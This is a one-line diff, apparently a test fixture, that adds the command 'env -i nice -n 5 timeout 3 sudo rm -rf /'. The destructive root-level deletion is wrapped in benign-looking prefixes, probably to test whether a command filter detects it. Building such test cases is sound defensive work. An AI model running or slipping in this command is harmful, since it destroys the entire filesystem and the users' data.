@@ -1,0 +1,1 @@
+env -i nice -n 5 timeout 3 sudo rm -rf /
